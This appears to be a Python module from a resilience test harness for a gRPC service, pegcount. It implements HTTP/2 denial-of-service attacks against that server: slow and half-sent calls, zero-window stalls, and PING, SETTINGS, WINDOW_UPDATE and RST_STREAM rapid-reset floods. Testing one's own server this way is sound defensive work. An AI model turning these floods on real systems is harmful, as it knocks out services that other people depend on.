"""Attacks on a server, each a function for a process of its own."""

import multiprocessing
import os
import resource
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import Executor, ProcessPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import partial

from hyperframe.frame import DataFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from load.entrance import Entrance
from load.http2_peer import CANCEL, OPEN, Peer, StreamEnd, message, opening_with_window

REPORT = "/pegcount.v1.ReportService/QueryOriginationQuality"
HEALTH = "/grpc.health.v1.Health/Check"
ADMIN = "/pegcount.v1.AdminService/GetStoreInfo"
METHODS = (REPORT, HEALTH, ADMIN)
UNKNOWN = "/pegcount.v1.ReportService/NoSuchReport"
_FRAMES_PER_SEND = 2_000
_CALLS_PER_SEND = 50
_RECONNECT_SECONDS = 0.05
_ASK_AGAIN_SECONDS = 0.5


@contextmanager
def attacker(gives_way: bool = True) -> Iterator[Executor]:
    """Returns an executor with one process, which runs only when the honest callers on its core do not.

    Otherwise the attacker's own need of the processor would slow the callers down, whatever the server does.
    Without callers it need not give way.
    """
    # Spawned: a fork would inherit the threads and locks of gRPC.
    context = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(1, context, _prepare_attacker, (gives_way,)) as pool:
        pool.submit(os.getpid).result(60)
        yield pool


def _prepare_attacker(gives_way: bool) -> None:
    if gives_way:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def half_sent_calls(entrance: Entrance, connections: int, calls_each: int, seconds: float) -> list[StreamEnd]:
    """Sends the headers of unary calls without their requests, and waits for the ends of the calls."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(entrance)) for _ in range(connections)]
        for peer in peers:
            for number in range(calls_each):
                peer.open_call(peer.block(METHODS[number % len(METHODS)]))
        deadline = time.monotonic() + seconds
        for peer in peers:
            peer.wait_for_ends(deadline - time.monotonic())
        return [end for peer in peers for end in peer.ends()]


def idle_connections(entrance: Entrance, count: int, seconds: float) -> int:
    """Opens connections without calls, holds them for some time, and returns how many then are still open."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(entrance)) for _ in range(count)]
        time.sleep(seconds)
        return sum(not peer.is_closed for peer in peers)


def unread_answers(
    entrance: Entrance, method: str, request: bytes, connections: int, calls_each: int, seconds: float
) -> Counter[str]:
    """Asks over connections whose windows let no byte of an answer through; returns how the calls ended.

    A call that has ended is made again, until the time has passed. A closed connection stays closed.
    """
    deadline = time.monotonic() + seconds
    with ExitStack() as stack:
        peers = [
            stack.enter_context(Peer(entrance, opening=opening_with_window(0))) for _ in range(connections)
        ]
        while time.monotonic() < deadline:
            for peer in peers:
                open_count = sum(end.how == OPEN for end in peer.ends())
                for _ in range(0 if peer.is_closed else calls_each - open_count):
                    stream = peer.open_call(peer.block(method))
                    peer.send_data(stream, message(request), deadline)
            time.sleep(_ASK_AGAIN_SECONDS)
        return Counter(end.how for peer in peers for end in peer.ends())


@dataclass(frozen=True, slots=True)
class FloodResult:
    """What a flood sent and what became of its connections."""

    frames_sent: int
    connections: int
    closed_seconds: float | None
    """Seconds after which the server closed the first connection."""
    reason: str
    received: Counter[str]


def flood(entrance: Entrance, kind: str, seconds: float, reconnect: bool = False) -> FloodResult:
    """Sends frames as fast as the server takes them; after a close it ends or, on request, reconnects."""
    begin = time.monotonic()
    frames_sent = connections = 0
    closed_seconds: float | None = None
    reason, received = "", Counter[str]()
    while connections == 0 or (reconnect and time.monotonic() < begin + seconds):
        with Peer(entrance) as peer:
            connections += 1
            frames_sent += _flood_over(peer, kind, begin + seconds)
            if peer.closed_time is not None and closed_seconds is None:
                closed_seconds, reason = peer.closed_time - begin, peer.go_away or ""
        received += peer.received
        time.sleep(_RECONNECT_SECONDS)
    # Callers are measured for the whole time, so the attack must not end before.
    time.sleep(max(0.0, begin + seconds - time.monotonic()))
    return FloodResult(frames_sent, connections, closed_seconds, reason, received)


def _flood_over(peer: Peer, kind: str, deadline: float) -> int:
    chunks = FLOODS[kind](peer)
    frames_sent = 0
    while time.monotonic() < deadline and not peer.is_closed:
        count, chunk = next(chunks)
        if peer.send(chunk, deadline):
            frames_sent += count
    return frames_sent


Chunks = Iterator[tuple[int, bytes]]
"""Chunks of an attack, each with its number of frames."""


def _repeated(frame: bytes) -> Chunks:
    while True:
        yield _FRAMES_PER_SEND, frame * _FRAMES_PER_SEND


def _pings(_: Peer) -> Chunks:
    return _repeated(PingFrame(0, b"pegcount").serialize())


def _settings(_: Peer) -> Chunks:
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}
    return _repeated(SettingsFrame(0, settings=settings).serialize())


def _window_updates(_: Peer) -> Chunks:
    return _repeated(WindowUpdateFrame(0, window_increment=1).serialize())


def _empty_data(peer: Peer) -> Chunks:
    stream = peer.open_call(peer.block(REPORT))
    return _repeated(DataFrame(stream).serialize())


def _resets(method: str, peer: Peer) -> Chunks:
    block = peer.block(method)
    while True:
        calls = [peer.headers(block) for _ in range(_CALLS_PER_SEND)]
        yield 2 * len(calls), b"".join(frame + _reset(stream) for stream, frame in calls)


def _resets_with_data(peer: Peer) -> Chunks:
    block = peer.block(REPORT)
    while True:
        calls = [peer.headers(block) for _ in range(_CALLS_PER_SEND)]
        frames = (frame + _empty_request(stream) + _reset(stream) for stream, frame in calls)
        yield 3 * len(calls), b"".join(frames)


def _unknown_methods(peer: Peer) -> Chunks:
    block = peer.block(UNKNOWN)
    while True:
        yield (
            _CALLS_PER_SEND,
            b"".join(peer.headers(block, end_stream=True)[1] for _ in range(_CALLS_PER_SEND)),
        )


def _reset(stream: int) -> bytes:
    return RstStreamFrame(stream, CANCEL).serialize()


def _empty_request(stream: int) -> bytes:
    return DataFrame(stream, message(b""), flags=["END_STREAM"]).serialize()


FLOODS: dict[str, Callable[[Peer], Chunks]] = {
    "PING": _pings,
    "SETTINGS": _settings,
    "WINDOW_UPDATE": _window_updates,
    "RST_STREAM": partial(_resets, REPORT),
    "RST_STREAM, admin": partial(_resets, ADMIN),
    "RST_STREAM, health": partial(_resets, HEALTH),
    "DATA and RST_STREAM": _resets_with_data,
    "empty DATA": _empty_data,
    "unknown method": _unknown_methods,
}
